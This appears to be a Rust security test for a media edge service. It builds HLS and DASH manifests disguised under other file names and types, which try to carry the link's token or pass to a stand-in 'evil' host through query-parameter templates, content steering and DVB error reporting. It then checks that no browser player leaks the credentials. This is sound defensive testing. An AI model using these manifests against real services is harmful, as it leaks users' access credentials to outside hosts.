//! Manifests under the names of other objects, in browsers' players.

use std::io::Write as _;

use lectern::credential::pass::{self, PassKind};
use serde_json::json;
use testkit::attacks::{AttackSite, media};

use super::{Case, DASH, HLS, Stage, steering};

/// Manifests under names of other objects. Each sends what stands in its own URL to another host, in the way that its format
/// has for that.
fn misnamed(site: &AttackSite<'_>) -> Vec<Case> {
    let evil = site.evil;
    let hls = |variables: &str, query: &str| {
        format!(
            "#EXTM3U\n{variables}#EXT-X-CONTENT-STEERING:SERVER-URI=\"steer.json\",PATHWAY-ID=\".\"\n\
             #EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e\"\n{evil}/x.m3u8?{query}\n\
             #EXT-X-STREAM-INF:BANDWIDTH=800,CODECS=\"avc1.64001e\",PATHWAY-ID=\".\"\ns.m3u8\n"
        )
    };
    let token = hls("#EXT-X-DEFINE:QUERYPARAM=\"token\"\n", "t={$token}");
    let pass = hls("#EXT-X-DEFINE:QUERYPARAM=\"p\"\n", "t={$p}");
    let plain = hls("", "");
    let property = "<SupplementalProperty schemeIdUri=\"urn:mpeg:dash:urlparam:2014\"><UrlQueryInfo \
        xmlns=\"urn:mpeg:dash:schema:urlparam:2014\" queryTemplate=\"$querypart$\" useMPDUrlQuery=\"true\"/>\
        </SupplementalProperty>";
    let dash = format!(
        "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
         mediaPresentationDuration=\"PT8S\" minBufferTime=\"PT2S\" \
         profiles=\"urn:mpeg:dash:profile:isoff-live:2011\">{property}<Period><BaseURL>{evil}/</BaseURL>\
         <AdaptationSet mimeType=\"video/mp4\" contentType=\"video\">{property}\
         <SegmentTemplate media=\"s$Number$.m4s\" initialization=\"i.mp4\" duration=\"4\" startNumber=\"1\"/>\
         <Representation id=\"1\" bandwidth=\"1000\" codecs=\"avc1.64001e\" width=\"640\" height=\"360\"/>\
         </AdaptationSet></Period></MPD>"
    );
    let mut cases = Vec::new();
    for (file, kind) in [
        ("x.mp4", "video/mp4"),
        ("x.txt", "text/plain; charset=utf-8"),
        ("x", "application/octet-stream"),
        ("x.mp4", HLS),
        ("x", DASH),
    ] {
        for (what, text) in [
            ("the link", &token),
            ("the pass", &pass),
            ("steering", &plain),
            ("DASH", &dash),
        ] {
            cases.push(
                Case {
                    name: format!("{what} by {file} as {kind}"),
                    files: vec![(file.to_owned(), kind.to_owned(), text.clone().into_bytes())],
                }
                .with("s.m3u8", HLS, media(""))
                .with("steer.json", "application/json", steering()),
            );
        }
    }
    let reports = dash.replace(
        property,
        &format!(
            "<Metrics metrics=\"DVBErrors\"><Reporting schemeIdUri=\"urn:dvb:dash:reporting:2014\" value=\"1\" \
             xmlns:dvb=\"urn:dvb:dash:dash-extensions:2014-1\" dvb:reportingUrl=\"{evil}/\" \
             dvb:probability=\"1000\"/></Metrics>"
        ),
    );
    // Names that the edge reads as one format, and a player as the other.
    for (name, file, kind, text) in [
        (
            "DASH in a playlist",
            "p.m3u8",
            HLS,
            format!("#EXTM3U\n{dash}"),
        ),
        (
            "DASH in a comment",
            "p.m3u8",
            HLS,
            format!("#EXTM3U\n#{dash}"),
        ),
        (
            "DASH in a note",
            "storyboard.vtt",
            "text/vtt",
            format!("WEBVTT\n\nNOTE\n{dash}"),
        ),
        ("DASH by its type", "x", HLS, format!("#EXTM3U\n{dash}")),
        (
            "DASH with reports",
            "x.mpd",
            DASH,
            format!("#EXTM3U\n{reports}"),
        ),
        (
            "steering behind a mark",
            "p.m3u8",
            HLS,
            format!("\u{feff}{plain}"),
        ),
        (
            "steering in a storyboard",
            "storyboard.vtt",
            "text/vtt",
            plain.clone(),
        ),
    ] {
        cases.push(
            Case {
                name: name.to_owned(),
                files: vec![(file.to_owned(), kind.to_owned(), text.into_bytes())],
            }
            .with("s.m3u8", HLS, media(""))
            .with("steer.json", "application/json", steering()),
        );
    }
    cases
}

#[test]
fn no_player_shows_another_host_the_link_to_a_manifest_under_another_name() {
    let stage = Stage::new(misnamed);
    let mut plays = Vec::new();
    for (name, path) in &stage.opened {
        for (player, shape) in [
            ("hlsjs", ""),
            ("hlsjs", "&as=directory"),
            ("shaka", ""),
            ("dashjs", ""),
            ("dashjs", "&as=directory"),
            ("native", ""),
        ] {
            let is_dash = name.starts_with("DASH");
            // Each player is given the manifests that it reads.
            let reads_it = match player {
                "dashjs" => is_dash,
                "shaka" => true,
                _ => !is_dash,
            };
            if !reads_it {
                continue;
            }
            let name = format!("{player}{shape}: {name}");
            let link = stage.link(&name, path, &json!({})) + shape;
            // Shaka reads by the name, or by the type that its page says.
            let kind = if is_dash { DASH } else { HLS };
            plays.push((
                name,
                json!({ "player": player, "link": link, "type": kind }),
            ));
        }
    }
    let (sent, asked) = stage.play(&plays);
    let _ = writeln!(
        std::io::stderr(),
        "{} links to manifests under other names; requests to the edge and to others: {asked:?}",
        plays.len()
    );
    // A pass of the object itself opens for another host what its uploader wrote.
    let opens_own_alone = |credential: &str| {
        pass::decode(credential).is_ok_and(|pass| pass.kind == PassKind::Object)
            && stage.opened.iter().any(|(_, path)| {
                let url = format!("{path}?p={credential}");
                stage.edge.send("GET", &url, &[], b"").status == 200
            })
    };
    let failed: Vec<String> = sent
        .iter()
        .filter(|(_, sent)| {
            let mut credentials = stage.credentials(sent);
            credentials.retain(|credential| !opens_own_alone(credential));
            !credentials.is_empty()
        })
        .map(|(name, sent)| format!("{name}: {sent}"))
        .collect();
    assert!(
        failed.is_empty(),
        "{} requests:\n{}",
        failed.len(),
        failed.join("\n")
    );
    for player in ["hlsjs", "dashjs"] {
        assert!(asked[player].1 >= 5, "{asked:?}");
    }
}
